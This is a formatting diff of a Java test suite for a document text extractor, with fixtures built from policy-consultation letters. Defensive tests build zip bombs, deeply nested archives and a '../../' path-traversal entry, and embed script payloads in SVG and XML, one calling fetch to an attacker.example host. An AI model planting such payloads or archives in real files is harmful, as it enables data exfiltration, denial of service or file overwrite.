@@ -50,7 +50,8 @@ class TikaTextExtractorTest {
 
   @Test
   void keepsPdfPagesInOrder() throws IOException {
-    ExtractedText t = extractor.extract(pdf("We support the copyright policy.", "Second page on red-teaming."));
+    ExtractedText t =
+        extractor.extract(pdf("We support the copyright policy.", "Second page on red-teaming."));
     assertEquals(FileStatus.OK, t.status());
     assertEquals("application/pdf", t.mediaType());
     assertEquals(2, t.pages().size());
@@ -62,7 +63,8 @@ class TikaTextExtractorTest {
   @Test
   void estimatesPagesOfAWordFileAndKeepsParagraphs() throws IOException {
     Path file = dir.resolve("response.docx");
-    try (XWPFDocument doc = new XWPFDocument(); OutputStream out = Files.newOutputStream(file)) {
+    try (XWPFDocument doc = new XWPFDocument();
+        OutputStream out = Files.newOutputStream(file)) {
       for (int i = 1; i <= 4; i++) {
         doc.createParagraph().createRun().setText("Paragraph " + i + " " + "word ".repeat(20));
       }
@@ -101,8 +103,10 @@ class TikaTextExtractorTest {
     }
     ExtractedText t = extractor.extract(file);
     assertEquals(FileStatus.QUARANTINED, t.status());
-    assertEquals("no text found: its 2 pages hold no text and no images (blank, or text drawn as shapes); "
-        + "OCR is switched off", t.reason());
+    assertEquals(
+        "no text found: its 2 pages hold no text and no images (blank, or text drawn as shapes); "
+            + "OCR is switched off",
+        t.reason());
   }
 
   /** A PDF of {@code blankPages} empty pages and one page that is a white image. */
@@ -114,14 +118,17 @@ class TikaTextExtractorTest {
       }
       PDPage page = new PDPage();
       doc.addPage(page);
-      java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(400, 200,
-          java.awt.image.BufferedImage.TYPE_BYTE_GRAY);
+      java.awt.image.BufferedImage image =
+          new java.awt.image.BufferedImage(400, 200, java.awt.image.BufferedImage.TYPE_BYTE_GRAY);
       java.awt.Graphics2D g = image.createGraphics();
       g.setColor(java.awt.Color.WHITE);
       g.fillRect(0, 0, 400, 200);
       g.dispose();
       try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
-        s.drawImage(org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory.createFromImage(doc, image), 72, 500);
+        s.drawImage(
+            org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory.createFromImage(doc, image),
+            72,
+            500);
       }
       doc.save(file.toFile());
     }
@@ -132,7 +139,8 @@ class TikaTextExtractorTest {
   void anImageOnlyPdfIsCalledAScan() throws IOException {
     ExtractedText t = extractor.extract(scan(1));
     assertEquals(FileStatus.QUARANTINED, t.status());
-    assertEquals("no text found: the PDF is an image-only scan (1 of its 2 pages is an image) and OCR is switched off",
+    assertEquals(
+        "no text found: the PDF is an image-only scan (1 of its 2 pages is an image) and OCR is switched off",
         t.reason());
   }
 
@@ -161,26 +169,37 @@ class TikaTextExtractorTest {
   @Test
   void guessesTheLanguageOfTheText() throws IOException {
     Path file = dir.resolve("lettre.txt");
-    Files.writeString(file, "Nous soutenons pleinement la politique en matière de droit d'auteur proposée "
-        + "par le Bureau de l'IA, car elle protège les créateurs et les éditeurs européens.", StandardCharsets.UTF_8);
+    Files.writeString(
+        file,
+        "Nous soutenons pleinement la politique en matière de droit d'auteur proposée "
+            + "par le Bureau de l'IA, car elle protège les créateurs et les éditeurs européens.",
+        StandardCharsets.UTF_8);
     assertEquals("fr", extractor.extract(file).language());
   }
 
   @Test
   void windows1252TextKeepsItsEuroSignsAndQuotes() throws IOException {
     Path file = dir.resolve("reponse.txt");
-    Files.write(file, ("Réponse : nous soutenons l’obligation de transparence – coût estimé 5 000 €. "
-        + "Les fournisseurs doivent publier un résumé des données d’entraînement.").getBytes(java.nio.charset.Charset.forName("windows-1252")));
+    Files.write(
+        file,
+        ("Réponse : nous soutenons l’obligation de transparence – coût estimé 5 000 €. "
+                + "Les fournisseurs doivent publier un résumé des données d’entraînement.")
+            .getBytes(java.nio.charset.Charset.forName("windows-1252")));
     String text = String.join("", extractor.extract(file).pages());
-    assertTrue(text.contains("l’obligation") && text.contains("5 000 €") && text.contains("transparence –"), text);
+    assertTrue(
+        text.contains("l’obligation")
+            && text.contains("5 000 €")
+            && text.contains("transparence –"),
+        text);
   }
 
   @Test
   void windows1250LetterDecodesPolishLetters() throws IOException {
     Path file = dir.resolve("stanowisko.txt");
-    String letter = "Popieramy obowiązki przejrzystości dla dostawców modeli. Źródła danych muszą być jawne, "
-        + "a mniejsze przedsiębiorstwa powinny mieć łagodniejsze zasady – żądamy też zgłaszania śladów. "
-        + "Podpisy: Jiří Dvořák (Brno), Zoltán Kővári (Győr).";
+    String letter =
+        "Popieramy obowiązki przejrzystości dla dostawców modeli. Źródła danych muszą być jawne, "
+            + "a mniejsze przedsiębiorstwa powinny mieć łagodniejsze zasady – żądamy też zgłaszania śladów. "
+            + "Podpisy: Jiří Dvořák (Brno), Zoltán Kővári (Győr).";
     Files.write(file, letter.getBytes(java.nio.charset.Charset.forName("windows-1250")));
     ExtractedText t = extractor.extract(file);
     assertEquals(FileStatus.OK, t.status());
@@ -191,41 +210,55 @@ class TikaTextExtractorTest {
   @Test
   void aZipBombIsNotOpened() throws IOException {
     Path file = dir.resolve("bomb.zip");
-    try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
+    try (java.util.zip.ZipOutputStream zip =
+        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
       zip.putNextEntry(new java.util.zip.ZipEntry("zeros.txt"));
       zip.write(new byte[3 * 1024 * 1024]);
       zip.closeEntry();
     }
-    ExtractedText t = new TikaTextExtractor(new ExtractionSettings(30, 100_000, 500, false, "eng", 256, 2)).extract(file);
+    ExtractedText t =
+        new TikaTextExtractor(new ExtractionSettings(30, 100_000, 500, false, "eng", 256, 2))
+            .extract(file);
     assertEquals(FileStatus.QUARANTINED, t.status());
     assertTrue(t.reason().contains("zip bomb"), t.reason());
   }
 
   @Test
   void svgScriptIsNotPassageText() throws IOException {
-    Path file = Files.writeString(dir.resolve("position.svg"), "<?xml version=\"1.0\"?>\n"
-        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\">"
-        + "<style>.a { fill: red } /* STYLE-PAYLOAD */</style>"
-        + "<script type=\"text/javascript\"><![CDATA[ fetch('https://attacker.example/?SCRIPT-PAYLOAD') ]]></script>"
-        + "<text x=\"0\" y=\"20\">We support the transparency measures.</text>"
-        + "<foreignObject><h:div><h:script>XHTML-SCRIPT-PAYLOAD</h:script><h:p>Small providers need time.</h:p>"
-        + "</h:div></foreignObject></svg>\n", StandardCharsets.UTF_8);
+    Path file =
+        Files.writeString(
+            dir.resolve("position.svg"),
+            "<?xml version=\"1.0\"?>\n"
+                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\">"
+                + "<style>.a { fill: red } /* STYLE-PAYLOAD */</style>"
+                + "<script type=\"text/javascript\"><![CDATA[ fetch('https://attacker.example/?SCRIPT-PAYLOAD') ]]></script>"
+                + "<text x=\"0\" y=\"20\">We support the transparency measures.</text>"
+                + "<foreignObject><h:div><h:script>XHTML-SCRIPT-PAYLOAD</h:script><h:p>Small providers need time.</h:p>"
+                + "</h:div></foreignObject></svg>\n",
+            StandardCharsets.UTF_8);
     ExtractedText t = extractor.extract(file);
     assertEquals("image/svg+xml", t.mediaType());
     assertEquals(FileStatus.OK, t.status());
     String text = String.join("", t.pages());
-    assertTrue(text.contains("We support the transparency measures.") && text.contains("Small providers need time."),
+    assertTrue(
+        text.contains("We support the transparency measures.")
+            && text.contains("Small providers need time."),
         text);
     assertTrue(!text.contains("PAYLOAD") && !text.contains("fill"), text);
   }
 
   @Test
   void scriptsInOtherXmlAreNotTextEither() throws IOException {
-    Path file = Files.writeString(dir.resolve("response.xml"), "<?xml version=\"1.0\"?>\n<response>"
-        + "<position>We oppose mandatory watermarking.</position><script>alert('XML-SCRIPT-PAYLOAD')</script>"
-        + "</response>\n", StandardCharsets.UTF_8);
+    Path file =
+        Files.writeString(
+            dir.resolve("response.xml"),
+            "<?xml version=\"1.0\"?>\n<response>"
+                + "<position>We oppose mandatory watermarking.</position><script>alert('XML-SCRIPT-PAYLOAD')</script>"
+                + "</response>\n",
+            StandardCharsets.UTF_8);
     String text = String.join("", extractor.extract(file).pages());
-    assertTrue(text.contains("We oppose mandatory watermarking.") && !text.contains("PAYLOAD"), text);
+    assertTrue(
+        text.contains("We oppose mandatory watermarking.") && !text.contains("PAYLOAD"), text);
   }
 
   /** A ZIP of the given name/content pairs. */
@@ -234,7 +267,10 @@ class TikaTextExtractorTest {
     try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(bytes)) {
       for (int i = 0; i < entries.length; i += 2) {
         zip.putNextEntry(new java.util.zip.ZipEntry((String) entries[i]));
-        zip.write(entries[i + 1] instanceof String text ? text.getBytes(StandardCharsets.UTF_8) : (byte[]) entries[i + 1]);
+        zip.write(
+            entries[i + 1] instanceof String text
+                ? text.getBytes(StandardCharsets.UTF_8)
+                : (byte[]) entries[i + 1]);
         zip.closeEntry();
       }
     }
@@ -250,16 +286,19 @@ class TikaTextExtractorTest {
   }
 
   private static ExtractedText extractWithUnpackLimit(Path file, int maxUnpackedMb) {
-    return new TikaTextExtractor(new ExtractionSettings(30, 100_000, 500, false, "eng", 256, maxUnpackedMb)).extract(file);
+    return new TikaTextExtractor(
+            new ExtractionSettings(30, 100_000, 500, false, "eng", 256, maxUnpackedMb))
+        .extract(file);
   }
 
   @Test
   void deeplyNestedSmallZipIsNotABomb() throws IOException {
     byte[] archive = zip("innermost.txt", "INNERMOST-LEVEL text");
     for (int level = 19; level >= 1; level--) {
-      archive = level == 1
-          ? zip("letter.txt", "We support the measures of the Code.", "level-2.zip", archive)
-          : zip("level-" + (level + 1) + ".zip", archive);
+      archive =
+          level == 1
+              ? zip("letter.txt", "We support the measures of the Code.", "level-2.zip", archive)
+              : zip("level-" + (level + 1) + ".zip", archive);
     }
     Path file = Files.write(dir.resolve("russian-dolls.zip"), archive);
     assertTrue(Files.size(file) < 8 * 1024, "tiny: " + Files.size(file));
@@ -273,16 +312,24 @@ class TikaTextExtractorTest {
   @Test
   void renamedInnerArchiveCountsTowardTheBombLimit() throws IOException {
     byte[] zeros = new byte[3 * 1024 * 1024];
-    Path file = Files.write(dir.resolve("annexes.zip"), zip("letter.txt", "We support the Code.",
-        "annex.docx", zip("data.dat", zip("sheet.xml", zeros))));
+    Path file =
+        Files.write(
+            dir.resolve("annexes.zip"),
+            zip(
+                "letter.txt",
+                "We support the Code.",
+                "annex.docx",
+                zip("data.dat", zip("sheet.xml", zeros))));
     ExtractedText t = extractWithUnpackLimit(file, 2);
     assertEquals(FileStatus.QUARANTINED, t.status());
-    assertEquals("compressed data expands beyond the limit of 2 MB (zip bomb): not opened", t.reason());
+    assertEquals(
+        "compressed data expands beyond the limit of 2 MB (zip bomb): not opened", t.reason());
   }
 
   @Test
   void aCompressedStreamInsideAnArchiveCountsTowardTheBombLimit() throws IOException {
-    Path file = Files.write(dir.resolve("notes.zip"), zip("notes.txt", gzip(new byte[3 * 1024 * 1024])));
+    Path file =
+        Files.write(dir.resolve("notes.zip"), zip("notes.txt", gzip(new byte[3 * 1024 * 1024])));
     ExtractedText t = extractWithUnpackLimit(file, 2);
     assertEquals(FileStatus.QUARANTINED, t.status());
     assertTrue(t.reason().contains("(zip bomb): not opened"), t.reason());
@@ -290,18 +337,25 @@ class TikaTextExtractorTest {
 
   @Test
   void aSmallFileThatExpandsAThousandfoldIsABombBelowTheSizeLimit() throws IOException {
-    Path file = Files.write(dir.resolve("small.zip"), zip("data.gz", gzip(new byte[20 * 1024 * 1024])));
+    Path file =
+        Files.write(dir.resolve("small.zip"), zip("data.gz", gzip(new byte[20 * 1024 * 1024])));
     assertTrue(Files.size(file) < 20 * 1024, "size " + Files.size(file));
     ExtractedText t = extractor.extract(file);
     assertEquals(FileStatus.QUARANTINED, t.status());
-    assertEquals(String.format(java.util.Locale.ROOT, "compressed data expands more than 1,000-fold, from %,d bytes "
-        + "to over 16 MB (zip bomb): not opened", Files.size(file)), t.reason());
+    assertEquals(
+        String.format(
+            java.util.Locale.ROOT,
+            "compressed data expands more than 1,000-fold, from %,d bytes "
+                + "to over 16 MB (zip bomb): not opened",
+            Files.size(file)),
+        t.reason());
   }
 
   @Test
   void anArchiveOfTooManyEntriesIsABomb() throws IOException {
     Path file = dir.resolve("many.zip");
-    try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
+    try (java.util.zip.ZipOutputStream zip =
+        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
       for (int i = 0; i <= ArchiveCheck.MAX_ENTRIES; i++) {
         java.util.zip.ZipEntry empty = new java.util.zip.ZipEntry("note-" + i + ".txt");
         empty.setMethod(java.util.zip.ZipEntry.STORED);
@@ -319,7 +373,8 @@ class TikaTextExtractorTest {
   @Test
   void zipEntriesThatEscapeTheArchiveFolderAreNotRead() throws IOException {
     Path file = dir.resolve("bundle.zip");
-    try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
+    try (java.util.zip.ZipOutputStream zip =
+        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
       zip.putNextEntry(new java.util.zip.ZipEntry("letter.txt"));
       zip.write("We support the measures of the Code.".getBytes(StandardCharsets.UTF_8));
       zip.putNextEntry(new java.util.zip.ZipEntry("../../escaped.txt"));
